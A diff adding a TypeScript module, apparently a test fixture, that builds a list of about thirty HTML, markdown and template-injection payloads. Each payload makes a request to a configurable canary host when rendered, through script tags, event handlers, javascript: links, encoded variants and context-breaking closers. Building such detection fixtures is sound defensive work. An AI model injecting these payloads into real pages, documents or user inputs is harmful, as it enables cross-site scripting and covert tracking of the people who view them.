@@ -1,0 +1,37 @@
+/**
+ * Texts that come to life where they are shown as markup. Each reaches for `canary`, a host that nobody else asks.
+ * @param canary `http://host:port`
+ */
+export const payloads = (canary: string): readonly string[] => [
+  `<script>fetch('${canary}/script')</script>`,
+  `<script src="${canary}/script-src"></script>`,
+  `<img src=x onerror="fetch('${canary}/onerror')">`,
+  `<img src="${canary}/img">`,
+  `<svg onload="fetch('${canary}/svg')">`,
+  `<iframe src="${canary}/iframe"></iframe>`,
+  `<link rel=stylesheet href="${canary}/css">`,
+  `<style>@import '${canary}/import';</style>`,
+  `<meta http-equiv="refresh" content="0;url=${canary}/refresh">`,
+  `<base href="${canary}/"><img src=base>`,
+  `<object data="${canary}/object"></object>`,
+  `<form action="${canary}/form"><input autofocus onfocus="fetch('${canary}/focus')"></form>`,
+  `</textarea></title></pre><img src="${canary}/closed">`,
+  `--><img src="${canary}/comment">`,
+  `]]><img src="${canary}/cdata">`,
+  `<a href="javascript:fetch('${canary}/link')">click</a>`,
+  `[click](javascript:fetch('${canary}/md-link'))`,
+  `[click](data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+)`,
+  `![pixel](${canary}/md-image)`,
+  `![pixel][p]\n\n[p]: ${canary}/md-reference`,
+  `<javascript:fetch('${canary}/autolink')>`,
+  `\`\`\`\n![pixel](${canary}/fence)\n\`\`\``,
+  `\\![pixel](${canary}/backslash)`,
+  `\\\\![pixel](${canary}/backslashes)`,
+  `&lt;img src="${canary}/entity"&gt;`,
+  `&#60;img src="${canary}/number"&#62;`,
+  `\u003cimg src="${canary}/unicode"\u003e`,
+  `＜img src="${canary}/wide"＞`,
+  `{{constructor.constructor('fetch("${canary}/template")')()}}`,
+  `${canary}/bare`,
+  `www.evil.example/bare and someone@evil.example`,
+];
